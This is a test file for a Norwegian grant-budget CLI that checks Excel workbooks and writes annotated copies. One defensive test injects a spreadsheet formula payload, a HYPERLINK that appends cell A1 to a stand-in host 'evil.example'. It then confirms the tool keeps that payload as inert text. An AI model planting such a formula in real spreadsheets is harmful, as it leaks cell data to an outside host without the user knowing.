import ExcelJS from 'exceljs';
import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { cli, workDir } from './helpers';
import type { CheckJson } from '../../src/cli/report';
import { buildWorkbook } from '../../src/cli/xlsx';
import { APPLICATIONS } from '../../src/core/workbook/contract';
import { DEFAULT_SETTINGS } from '../../src/core/workbook/settings';
import { exampleWorkbook } from '../../src/example/agder';

const { dir, tmp } = workDir('tilskudd-cli-');

type Values = Record<string, unknown[][]>;

async function writeValues(values: Values, name = 'wb.xlsx'): Promise<string> {
  const file = tmp(name);
  await buildWorkbook(values, DEFAULT_SETTINGS).xlsx.writeFile(file);
  return file;
}

/** The example with one edit applied to a sheet's rows (header included). */
function edited(edit: (v: Values) => void): Values {
  const v = exampleWorkbook();
  edit(v);
  return v;
}

/**
 * The day the example's economy is judged by (its payments are illustrative, see src/example/agder.ts);
 * its illustrative follow-up then has Agdermodellen red on risk and its final report two months late.
 */
const DATE = ['--date', '2026-12-01'];

const col = (header: string) => APPLICATIONS.fields.findIndex((f) => f.header === header);

describe('tilskudd check', () => {
  it('reports the example: summary per year, findings, exit 1 for error-level findings', async () => {
    const file = await writeValues(exampleWorkbook());
    const r = await cli('check', file, '--json', ...DATE);
    expect(r.code).toBe(1);
    const json = JSON.parse(r.out) as CheckJson;
    expect(json.years['2025']).toEqual({
      frame: 9_160_000,
      allocated: 2_019_829,
      remaining: 7_140_171,
      categories: {
        // Shares unrounded: --json is for machines; the human report rounds.
        innovation: { amount: 1_080_000, share: 1_080_000 / 9_160_000, key: 0.8, keyAmount: 7_328_000 },
        administration: { amount: 939_829, share: 939_829 / 9_160_000, key: 0.05, keyAmount: 458_000 },
        operations: { amount: 0, share: 0, key: 0.15, keyAmount: 1_374_000 },
      },
      paid: 1_414_829,
    });
    expect(json.years['2026']!.allocated).toBe(665_000);
    const pairs = json.findings.map((f) => `${f.severity} ${f.rule} ${f.ref}`);
    expect(pairs).toEqual([
      'error budget-incomplete 2025-05-002',
      'error budget-incomplete 2025-05-002',
      'error budget-incomplete 2025-05-002',
      'error overspent ADM-2025',
      'error payment-without-contract 2025-05-001',
      'error payment-without-grant ADM-2026',
      'warning agreement-parties-unnamed 2025-05-001',
      'warning agreement-parties-unnamed 2025-05-002',
      'warning contract-missing 2025-05-001',
      'warning contract-missing 2025-05-002',
      'warning final-report-overdue 2025-05-001',
      'warning key-exceeded 2025',
      'warning measure-text-duplicate 1.3',
      'warning own-contribution-missing 2025-05-001',
      'warning own-contribution-missing 2025-05-002',
      'warning payment-outside-period ADM-2025',
      'warning status-red 2025-05-001',
      'warning supplement-not-reported 2025-05-001',
      'warning unused-funds 2025-05-001',
      'warning unused-funds 2025-05-002',
      // For information: both projects report a green economy light while their payments give red.
      'info economy-light-differs 2025-05-001',
      'info economy-light-differs 2025-05-002',
    ]);
    expect(json.findings[0]!.message).toContain('[Beløp]');
    // Per followed project its follow-up on the day: lights, last report, next due date, overdue.
    // Per followed project also its follow-up on the day: lights, last report, next due date, overdue.
    expect(json.projects['2025-05-001']!.status).toEqual({
      light: 'red',
      lastReport: '2026-04-30',
      nextDue: '2026-09-30',
      overdue: ['2026-09-30'],
    });
    expect(json.projects['2025-05-002']!.status).toEqual({
      light: 'yellow',
      lastReport: '2026-02-20',
      nextDue: null,
      overdue: [],
    });
    const may = JSON.parse((await cli('check', file, '--json', '--date', '2026-05-15')).out) as CheckJson;
    expect(may.projects['2025-05-001']!.status).toMatchObject({ nextDue: '2026-09-30', overdue: [] });
  });

  it('prints a readable per-year table and findings grouped by severity', async () => {
    const file = await writeValues(exampleWorkbook());
    const r = await cli('check', file, ...DATE);
    expect(r.out).toMatch(
      /Budsjettår 2025 +Ramme 9\u00a0160\u00a0000\u00a0kr +Tildelt 2\u00a0019\u00a0829\u00a0kr/,
    );
    expect(r.out).toMatch(
      /Administrasjon +939\u00a0829\u00a0kr +10,3 % +5,0 % +458\u00a0000\u00a0kr +⚠ over nøkkelen/,
    );
    expect(r.out).toMatch(
      /2025-05-001 +1\u00a0120\u00a0000\u00a0kr +560\u00a0000\u00a0kr +560\u00a0000\u00a0kr +50 % +100 % +rød/,
    );
    expect(r.out.indexOf('Økonomi per prosjekt')).toBeLessThan(r.out.indexOf('Feil (6)'));
    expect(r.out.indexOf('Feil (6)')).toBeLessThan(r.out.indexOf('Advarsler (14)'));
    expect(r.out).toContain('Resultat: 6 feil, 14 advarsler.');
  });

  it('speaks English with --lang en and limits the summary with --year', async () => {
    const file = await writeValues(exampleWorkbook());
    const r = await cli('check', file, '--lang', 'en', '--year', '2026', '--json');
    const json = JSON.parse(r.out) as CheckJson;
    expect(Object.keys(json.years)).toEqual(['2026']);
    // The 2025 key finding is about another year; case findings stay.
    expect(json.findings.some((f) => f.rule === 'key-exceeded')).toBe(false);
    expect(json.findings.find((f) => f.rule === 'budget-incomplete')!.message).toMatch(/placeholder/);
    const human = await cli('check', file, '--lang', 'en');
    expect(human.out).toContain('Budget year 2025');
  });

  it('adds a year without allocations with --year, at its frame', async () => {
    const file = await writeValues(exampleWorkbook());
    const json = JSON.parse((await cli('check', file, '--year', '2030', '--json')).out) as CheckJson;
    expect(json.years['2030']).toMatchObject({ frame: 9_160_000, allocated: 0, remaining: 9_160_000 });
  });

  it('exits 0 when there is no error-level finding', async () => {
    const values = edited((v) => {
      v['Budsjett'] = v['Budsjett']!.filter((row) => !String(row[2]).includes('[Beløp]'));
      delete v['Utbetalinger'];
    });
    const r = await cli('check', await writeValues(values), ...DATE);
    expect(r.code).toBe(0);
    // The plan's repeated goal (1.3 repeats 1.1) is one of them.
    expect(r.out).toContain('Resultat: 0 feil, 11 advarsler.');
  });

  it('writes a copy with an Avvik sheet, highlighted cells and notes; a second run replaces them', async () => {
    const file = await writeValues(exampleWorkbook());
    const out = tmp('checked.xlsx');
    expect((await cli('check', file, '--write', out, ...DATE)).code).toBe(1);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    const avvik = wb.getWorksheet('Avvik')!;
    expect(avvik.getRow(1).values).toEqual([undefined, 'Regel', 'Alvorlighet', 'Sak', 'Melding', 'Celle']);
    expect(avvik.rowCount).toBe(23);
    expect(avvik.getRow(2).getCell(5).value).toBe('Budsjett!C4');
    const cell = wb.getWorksheet('Budsjett')!.getCell('C4');
    expect(cell.fill).toMatchObject({ pattern: 'solid', fgColor: { argb: 'FFF4C7C3' } });
    expect(String(cell.note)).toContain('[budget-incomplete]');
    const warned = wb.getWorksheet('Søknader')!.getCell(2, col('Samarbeidsavtale') + 1);
    expect(warned.fill).toMatchObject({ fgColor: { argb: 'FFFCE8B2' } });

    // Fix the placeholders in the checked copy and check it again: old marks go, one Avvik sheet stays.
    for (const r of [4, 5, 6]) wb.getWorksheet('Budsjett')!.getRow(r).getCell(3).value = 0;
    const fixed = tmp('fixed.xlsx');
    await wb.xlsx.writeFile(fixed);
    const again = tmp('again.xlsx');
    await cli('check', fixed, '--write', again);
    const wb2 = new ExcelJS.Workbook();
    await wb2.xlsx.readFile(again);
    expect(wb2.worksheets.filter((w) => w.name === 'Avvik')).toHaveLength(1);
    const c4 = wb2.getWorksheet('Budsjett')!.getCell('C4');
    expect(c4.note ?? '').toBe('');
    expect(c4.fill).not.toMatchObject({ pattern: 'solid' });
  });

  it('reports the same with --write as without (the copy is written after the report is made)', async () => {
    const file = await writeValues(exampleWorkbook());
    const alone = await cli('check', file, '--json', ...DATE);
    const writing = await cli('check', file, '--json', '--write', tmp('reported.xlsx'), ...DATE);
    expect([writing.code, writing.out]).toEqual([alone.code, alone.out]);
    expect((JSON.parse(alone.out) as CheckJson).findings.length).toBeGreaterThan(0);
  });

  it("keeps a person's note in a flagged cell and adds its own under it", async () => {
    const wb = buildWorkbook(exampleWorkbook(), DEFAULT_SETTINGS);
    wb.getWorksheet('Budsjett')!.getCell('C4').note = 'Spurt søker 12.05';
    const file = tmp('noted.xlsx');
    await wb.xlsx.writeFile(file);
    const out = tmp('noted-checked.xlsx');
    await cli('check', file, '--write', out);
    const again = tmp('noted-again.xlsx');
    await cli('check', out, '--write', again);
    const checked = new ExcelJS.Workbook();
    await checked.xlsx.readFile(again);
    const note = String(checked.getWorksheet('Budsjett')!.getCell('C4').note);
    expect(note).toMatch(/^Spurt søker 12\.05\nTilskudd: \[budget-incomplete\]/);
    expect(note.match(/Tilskudd:/g)).toHaveLength(1);
  });

  it('never turns user text into a formula, in the data or in the Avvik sheet', async () => {
    const hostile = '=HYPERLINK("https://evil.example/?"&A1,"klikk")';
    const values = edited((v) => {
      v['Søknader']![1]![col('Tittel')] = hostile;
      v['Søknader']![2]![col('Saksnr')] = '+SUM(1;2)';
    });
    const out = tmp('hostile-checked.xlsx');
    await cli('check', await writeValues(values), '--write', out);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((c) => expect(c.type === ExcelJS.ValueType.Formula ? c.address : null).toBeNull()),
      ),
    );
    expect(wb.getWorksheet('Søknader')!.getCell(2, col('Tittel') + 1).value).toBe(hostile);
    const refs = wb
      .getWorksheet('Avvik')!
      .getColumn(3)
      .values.filter((v) => typeof v === 'string' && v.includes('SUM'));
    expect(refs.length).toBeGreaterThan(0);
    for (const ref of refs) expect(ref).toBe("'+SUM(1;2)");
  });

  it('tolerates empty rows and wrong types without crashing', async () => {
    const values = edited((v) => {
      const apps = v['Søknader']!;
      apps.splice(
        2,
        0,
        apps[0]!.map(() => ''),
      );
      apps[1]![col('Tittel')] = 12345;
      apps[1]![col('Søkt beløp')] = 'mye penger';
      apps[1]![col('SSHF')] = true;
      apps[1]![col('Fra')] = new Date(Date.UTC(2025, 7, 1));
      apps[1]![col('Til')] = 'juli 2026';
    });
    const r = await cli('check', await writeValues(values), '--json');
    expect(r.code).toBe(1);
    const json = JSON.parse(r.out) as CheckJson;
    const amount = json.findings.find((f) => f.rule === 'amount-invalid')!;
    expect(amount.message).toContain('«mye penger»');
    expect(json.findings.some((f) => f.rule === 'period-invalid')).toBe(false);
  });

  it.each([
    [
      'a missing header',
      (v: Values) => (v['Søknader']![0]![col('Søkt beløp')] = 'Noe annet'),
      /«Søkt beløp»/,
    ],
    ['a missing sheet', (v: Values) => delete v['Tildelinger'], /mangler arket «Tildelinger»/],
    [
      'an invalid setting',
      (v: Values) => v['Innstillinger']!.push(['Nøkkel administrasjon', '50 %']),
      /summerer til 145 %/,
    ],
  ])('exits 2 with a message on %s', async (_name, edit, message) => {
    const r = await cli('check', await writeValues(edited(edit)));
    expect(r.code).toBe(2);
    expect(r.err).toMatch(message);
    expect(r.out).toBe('');
  });

  it('exits 2 for a file that is missing or not a workbook, and for bad arguments', async () => {
    expect((await cli('check', join(dir, 'nope.xlsx'))).err).toMatch(/finnes ikke/);
    const junk = tmp('junk.xlsx');
    writeFileSync(junk, 'not a zip');
    const bad = await cli('check', junk);
    expect(bad.code).toBe(2);
    expect(bad.err).toMatch(/ikke en Excel-arbeidsbok.*Lagre som › «Excel-arbeidsbok \(\.xlsx\)»/);
    expect((await cli('check')).code).toBe(2);
    expect((await cli('check', junk, '--lang', 'de')).err).toMatch(/--lang må være nb eller en/);
    expect((await cli('check', junk, '--year', '25')).code).toBe(2);
    expect((await cli('check', junk, '--bogus')).code).toBe(2);
    expect((await cli('frobnicate')).code).toBe(2);
  });

  it('checks a 10 000-row workbook', async () => {
    const values = exampleWorkbook();
    const template = values['Søknader']![1]!;
    for (let i = 0; i < 10_000; i++) {
      const row = [...template];
      row[col('Saksnr')] = `2025-05-${String(i + 100).padStart(5, '0')}`;
      values['Søknader']!.push(row);
    }
    const file = await writeValues(values, 'big.xlsx');
    // Time and memory of the CLI at 20 000 rows are measured by `npm run bench`, never asserted here.
    const r = await cli('check', file, '--json');
    const json = JSON.parse(r.out) as CheckJson;
    expect(json.findings.filter((f) => f.rule === 'budget-incomplete')).toHaveLength(10_003);
  });
});

describe('tilskudd init', () => {
  it('writes a template that checks clean, with every sheet, header, dropdown and setting', async () => {
    const file = tmp('mal.xlsx');
    expect((await cli('init', file)).code).toBe(0);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    expect(wb.worksheets.map((w) => w.name)).toEqual([
      'Søknader',
      'Budsjett',
      'Tildelinger',
      'Utbetalinger',
      'Innstillinger',
      'Statusrapporter',
      'Frister',
      'Handlingsplan',
    ]);
    const apps = wb.getWorksheet('Søknader')!;
    expect((apps.getRow(1).values as unknown[]).slice(1)).toEqual(APPLICATIONS.fields.map((f) => f.header));
    expect(apps.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const validations = (
      apps as unknown as { dataValidations: { model: Record<string, { formulae: string[] }> } }
    ).dataValidations.model;
    // One rule for the whole column in the file; exceljs expands it per cell when reading back.
    const letter = String.fromCharCode(65 + col('Kategori'));
    for (const row of [2, 500]) {
      expect(validations[`${letter}${row}`]!.formulae[0]).toBe(
        '"Innovasjon/prosjekt,Administrasjon,Samdrift/tiltak"',
      );
    }
    const settings = wb.getWorksheet('Innstillinger')!;
    expect(settings.getCell('A2').value).toBe('Ramme');
    expect(settings.getCell('B2').value).toBe(9_160_000);

    const r = await cli('check', file, '--json');
    expect(r.code).toBe(0);
    expect(JSON.parse(r.out)).toEqual({
      findings: [],
      years: {},
      projects: {},
      leftOutOfTotals: { allocations: [], message: '' },
    });
  });
});

describe('the built CLI', () => {
  it('runs as a program with the documented exit codes', () => {
    const example = tmp('example.xlsx');
    const exec = (...args: string[]) =>
      spawnSync(process.execPath, ['dist/cli.js', ...args], { encoding: 'utf8' });
    expect(exec('init', '--example', example).status).toBe(0);
    const r = exec('check', example, ...DATE);
    expect(r.status).toBe(1);
    expect(r.stdout).toContain('Resultat: 6 feil, 14 advarsler.');
    const missing = exec('check', join(dir, 'missing.xlsx'));
    expect(missing.status).toBe(2);
    expect(missing.stderr).toMatch(/finnes ikke/);
    expect(missing.stderr).not.toMatch(/at .*\.js:\d+/);
  });
});
